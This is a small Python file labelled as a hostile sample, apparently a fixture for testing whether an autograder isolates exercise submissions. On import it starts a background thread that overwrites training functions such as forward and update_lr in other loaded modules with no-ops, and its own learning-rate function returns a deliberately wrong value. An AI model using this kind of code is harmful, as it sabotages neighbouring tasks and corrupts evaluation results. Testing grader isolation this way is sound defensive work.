# kind: hostile
# attack: neighbour_state
# about: Looks for the functions of the other TODOs in every loaded module and replaces them by its own.

import sys
import threading
import time

HELD = -1.0  # a wrong answer for every input


NAMES = ("PretrainDataset", "warmup_lr", "update_lr", "forward", "backward_and_step", "get_lr")


def rebind() -> None:
    """Replaces what already exists now; a thread goes on for what comes later."""
    for name, module in list(sys.modules.items()):
        if name.startswith(("todo", "submission", "student", "train_exercise")):
            for attribute in NAMES:
                if hasattr(module, attribute):
                    setattr(module, attribute, lambda *arguments, **options: None)


def keep_rebinding() -> None:
    """Ten seconds, then it ends by itself."""
    for _ in range(1_000):
        rebind()
        time.sleep(0.01)


threading.Thread(target=keep_rebinding, daemon=True).start()


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return HELD
